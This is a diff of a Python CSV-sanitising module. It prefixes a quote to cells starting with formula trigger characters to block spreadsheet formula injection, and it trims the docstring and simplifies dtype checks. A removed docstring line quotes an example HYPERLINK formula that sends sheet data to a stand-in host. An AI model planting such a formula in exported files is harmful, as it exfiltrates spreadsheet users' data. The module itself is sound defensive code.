@@ -1,14 +1,10 @@
 """CSV cells that cannot attack the spreadsheet that opens them (CSV or formula injection).
 
-The package writes text it does not control into CSV files (a rater's note, a model name,
-a label from a log), and a spreadsheet reads a cell starting with `=`, `+`, `-` or `@` as
-a formula (`=HYPERLINK("http://x/?"&A1, "click")` sends the sheet's data away). So, as
-OWASP's CSV-injection advice says, every text cell starting with one of those, a tab, a
-carriage return or NUL gets a single quote in front, and every text cell is quoted
-(`QUOTING`). Numbers are left alone, and so is a text cell that is a plain decimal number
-and nothing else (`"-3"`): no reference or function fits in it, and a quote would turn
-a number into text; our one departure from OWASP's blanket rule, safe by construction.
-JSONL files are not touched: no program evaluates a JSON string.
+The package writes text it does not control into CSV files (a rater's note, a model name),
+and a spreadsheet reads a cell starting with `=` as a formula that can send the sheet's
+data away; so, as OWASP advises, such cells get a quote in front (docs/large-runs.md).
+Our one departure: a text cell that is a plain decimal number (`"-3"`) is left alone, since
+no reference or function fits in it and a quote would turn a number into text.
 """
 
 from __future__ import annotations
@@ -21,10 +17,7 @@ if TYPE_CHECKING:  # imported where a table is written: the studio's export need
     import pandas as pd
 
 __all__ = [
-    "PREFIX",
     "QUOTING",
-    "TRIGGERS",
-    "safe_cell",
     "safe_frame",
     "safe_row",
     "safe_text",
@@ -33,8 +26,7 @@ __all__ = [
 
 # The first characters that make a spreadsheet read a cell as a formula (OWASP: = + - @,
 # tab, carriage return; ASVS 1.2.10 adds NUL).
-TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r", "\0")
-PREFIX = "'"
+_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
 # Every text cell quoted, numbers bare (csv's and pandas' `quoting`).
 QUOTING: Final = csv.QUOTE_NONNUMERIC
 _PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)
@@ -42,8 +34,8 @@ _PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?", re.ASCI
 
 def safe_text(value: str) -> str:
     """`value` with a single quote in front if a spreadsheet would read it as a formula."""
-    if value.startswith(TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
-        return PREFIX + value
+    if value.startswith(_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
+        return "'" + value
     return value
 
 
@@ -64,7 +56,7 @@ def _safe_index(index: pd.Index) -> pd.Index:
         levels = [_safe_index(level) for level in index.levels]
         names = [safe_cell(name) for name in index.names]
         return index.set_levels(levels).set_names(names)
-    if pd.api.types.is_numeric_dtype(index.dtype) or pd.api.types.is_bool_dtype(index.dtype):
+    if pd.api.types.is_numeric_dtype(index.dtype):
         return index.rename(safe_cell(index.name))
     return index.map(safe_cell).rename(safe_cell(index.name))
 
@@ -77,9 +69,8 @@ def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
     safe = frame.copy()
     for position in range(safe.shape[1]):
         column = safe.iloc[:, position]
-        if pd.api.types.is_numeric_dtype(column.dtype) or pd.api.types.is_bool_dtype(column.dtype):
-            continue
-        safe.isetitem(position, column.map(safe_cell))
+        if not pd.api.types.is_numeric_dtype(column.dtype):  # booleans are numeric too
+            safe.isetitem(position, column.map(safe_cell))
     safe.columns = _safe_index(safe.columns)
     safe.index = _safe_index(safe.index)
     return safe
